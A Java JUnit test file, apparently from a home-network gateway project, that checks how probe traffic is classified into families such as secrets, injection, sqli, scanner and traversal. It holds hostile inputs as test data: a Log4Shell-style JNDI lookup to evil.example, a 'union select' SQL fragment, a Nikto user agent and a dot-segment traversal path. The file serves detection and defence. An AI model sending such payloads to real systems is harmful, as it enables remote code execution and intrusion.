package dev.portcullis.rules.signal;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.rules.net.Zone;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// The standard catalogue in what passes by and in what is refused.
class ProbesInTrafficTest {

    private final House house = House.quiet();

    @Test
    void a_probe_of_home_assistant_is_one_whatever_the_failure() {
        for (int status : new int[] {400, 401, 403, 404, 405, 500, 503}) {
            assertThat(Objects.requireNonNull(house.answer(Sent.get("/wp-login.php"), status))
                            .families())
                    .as("status %d", status)
                    .contains("scripts", "admin");
        }
    }

    @Test
    void what_another_site_has_is_no_probe() {
        assertThat(house.answer(Sent.get("/index.php").at(House.OTHER), 200)).isNull();
        assertThat(house.answer(Sent.of("PROPFIND", "/dav").at(House.OTHER), 207))
                .isNull();
        assertThat(Objects.requireNonNull(house.answer(Sent.post("/login.php").at(House.OTHER), 401))
                        .families())
                .isEmpty();
        assertThat(Objects.requireNonNull(house.answer(Sent.get("/.env").at(House.OTHER), 404))
                        .families())
                .contains("secrets");
    }

    @Test
    void an_odd_query_is_looked_at_even_if_it_is_answered_well() {
        Sent jndi = Sent.get("/lovelace?x=%24%7Bjndi:ldap://evil.example/a%7D");
        assertThat(Objects.requireNonNull(house.answer(jndi, 200)).families()).contains("injection");
        assertThat(Objects.requireNonNull(house.answer(Sent.get("/?id=1+union+select+a"), 200))
                        .families())
                .contains("sqli");
        assertThat(house.answer(Sent.get("/?start=2026-11-23T00%3A00%3A00%2B01%3A00&x=1,2"), 200))
                .isNull();
    }

    @Test
    void a_scanners_name_is_looked_at_once_for_a_connection() {
        Sent nikto = Sent.get("/").with("user-agent", "Nikto/2.5");
        assertThat(Objects.requireNonNull(house.answer(nikto, 200)).families()).containsExactly("scanner");
        assertThat(house.answer(nikto, 200)).isNull();
        assertThat(Objects.requireNonNull(house.answer(nikto, 404)).families()).containsExactly("scanner");
    }

    @Test
    void a_websocket_over_http2_is_no_open_proxy() {
        assertThat(house.answer(Sent.of("CONNECT", "/api/websocket"), 200)).isNull();
    }

    @ParameterizedTest
    @CsvSource({
        "/.git/config, 404, not-exposed, '', secrets",
        "/cgi-bin/%2e%2e/x, 400, path, dot-segment, traversal",
        "//x, 400, path, empty-segment, ambiguous-path",
        "/, 400, chunk, '', framing",
        "/, 421, misdirected, '', wrong-host",
        "/api/onboarding/users, 404, not-exposed, '', onboarding"
    })
    void a_refusal_is_of_the_family_that_it_belongs_to(
            String target, int status, String refusal, String detail, String family) {
        assertThat(Objects.requireNonNull(house.refuse(Sent.get(target), status, refusal, detail))
                        .families())
                .contains(family)
                .doesNotContain("unexposed", "unexposed-home");
    }

    @Test
    void a_connection_without_a_name_we_know_is_of_a_family() {
        assertThat(Objects.requireNonNull(
                                house.signals().connection(House.NOW, Sent.CLIENT, Zone.INTERNET, "unknown-name"))
                        .families())
                .containsExactly("unknown-name");
        assertThat(house.signals().connection(House.NOW, Sent.CLIENT, Zone.INTERNET, "handshake"))
                .isNull();
    }
}
